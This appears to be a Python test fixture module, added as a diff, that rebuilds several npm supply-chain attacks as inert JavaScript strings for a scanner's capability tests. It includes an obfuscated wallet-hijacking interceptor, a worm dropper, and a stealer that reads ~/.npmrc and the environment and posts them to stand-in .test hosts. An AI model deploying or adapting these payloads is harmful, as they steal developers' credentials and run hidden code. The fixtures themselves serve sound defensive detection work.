@@ -1,0 +1,94 @@
+"""The code of the 2018-2026 npm incidents, rebuilt from their public write-ups as what it can
+do, not what it did: each payload here reaches the shapes the capability reading looks for
+(a spawn and a download at install, interception of globals at load, the environment and
+`~/.npmrc` beside the network, a module compiled from decrypted text) and does nothing when
+run: its hosts are `.test` names, its commands echo, and the tests never run install scripts.
+
+Used by the capability reading's unit tests (tests/npm/test_capabilities.py,
+tests/rules/test_capabilities.py) and the e2e refusals (tests/e2e/test_capabilities.py).
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+
+from tests.servers.incidents import minified_bundle
+
+__all__ = ["flatmap_payload", "interceptor", "stealer", "worm_bundle",
+           "worm_dropper"]
+
+
+def worm_bundle(size: int = 300_000) -> bytes:
+    """Shai-Hulud 1's `bundle.js` (September 2025): a large minified bundle run by a new
+    `postinstall`; it serialises the environment, downloads a secret scanner and spawns it,
+    and posts what it found to a repository it creates."""
+    head = minified_bundle(size).rstrip(b"\n")
+    return head + (
+        b'\n;(function(){const h=require("https"),c=require("child_process"),'
+        b'o=require("os");const e=JSON.stringify(process.env);'
+        b'h.get("https://payload.test/scanner",r=>{r.pipe(require("fs").createWriteStream('
+        b'o.tmpdir()+"/scan"))});c.execSync("echo scanning "+o.tmpdir());'
+        b'fetch("https://api.payload.test/repos",{method:"POST",body:e})})();\n')
+
+
+def worm_dropper() -> bytes:
+    """Shai-Hulud 2's `setup_bun.js` (November 2025), run by a new `preinstall`: it fetches a
+    runtime and spawns it over a second, larger file."""
+    return (b"'use strict';\n"
+            b"const { spawn } = require('child_process');\n"
+            b"const https = require('https');\n"
+            b"function download(url, done) { https.get(url, (res) => done(res)); }\n"
+            b"download('https://runtime.payload.test/bun.zip', () => {\n"
+            b"  spawn('echo', ['bun_environment.js'], { stdio: 'ignore', detached: true });\n"
+            b"});\n")
+
+
+def interceptor(seed: str) -> bytes:
+    """The chalk/debug payload (September 2025), appended to the entry file: obfuscated in
+    javascript-obfuscator's style (a hex-escaped string array, `_0x` names), it replaces
+    `fetch`, `XMLHttpRequest.prototype.open` and `window.ethereum.request` to rewrite wallet
+    addresses in what the page sends."""
+    words = ["fetch", "prototype", "open", "ethereum", "request"] + [
+        hashlib.sha256(f"{seed}{i}".encode()).hexdigest()[:10] for i in range(300)]
+    table = ",".join("'" + "".join(f"\\x{ord(ch):02x}" for ch in word) + "'" for word in words)
+    names = [f"_0x{hashlib.sha256(f'{seed}n{i}'.encode()).hexdigest()[:4]}" for i in range(50)]
+    rotate = ";".join(f"var {name}=_0x3ce1(0x{i % 5:x})" for i, name in enumerate(names))
+    return (f"\nvar _0x5d2a=[{table}];function _0x3ce1(_0x1f0b){{return _0x5d2a[_0x1f0b]}};"
+            f"{rotate};if(typeof window!=='undefined'){{const _0x4e11=window[_0x3ce1(0x0)];"
+            f"window[_0x3ce1(0x0)]=function(_0x2a9c,_0x51f2){{return _0x4e11(_0x2a9c,_0x51f2)}};"
+            f"XMLHttpRequest[_0x3ce1(0x1)][_0x3ce1(0x2)]=function(){{}};"
+            f"if(window[_0x3ce1(0x3)]){{window[_0x3ce1(0x3)][_0x3ce1(0x4)]=function(){{}}}}}}\n"
+            ).encode()
+
+
+def stealer(where: str = "load") -> bytes:
+    """A token stealer (the 2025 `rand-user-agent`, `@ctrl/tinycolor` and many young
+    packages): it reads `~/.npmrc` and the environment and posts both to a host of its own.
+    `where` only names it in its output."""
+    return (f"\n;(function steal() {{ // {where}\n"
+            "  const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "  const https = require('https');\n"
+            "  let npmrc = '';\n"
+            "  try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }"
+            " catch (e) {}\n"
+            "  const body = JSON.stringify({ npmrc, env: process.env });\n"
+            "  const req = https.request({ host: 'collect.payload.test', method: 'POST' });\n"
+            "  req.end(body);\n"
+            "})();\n").encode()
+
+
+def flatmap_payload(description: str = "A fixture stream helper") -> bytes:
+    """flatmap-stream 0.1.1 (November 2018): a payload decrypted with the requiring package's
+    own description as the key and compiled as a module at `require`, written as it was (the
+    module's method name hidden in hex). Here the ciphertext is the hex of a harmless line."""
+    hidden = base64.b16encode(b"console.log('fixture payload')").decode().lower()
+    name = base64.b16encode(b"_compile").decode().lower()
+    return ("\n!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"
+            "\"hex\").toString()}var n=[\"" + hidden + "\",\"\",\"63727970746f\",\"656e76\","
+            "\"6e706d5f7061636b6167655f6465736372697074696f6e\",\"616573323536\","
+            "\"6372656174654465636970686572\",\"" + name + "\",\"686578\",\"75746638\"],"
+            "o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),"
+            "a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;"
+            "f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();"
+            f"// {description}\n").encode()
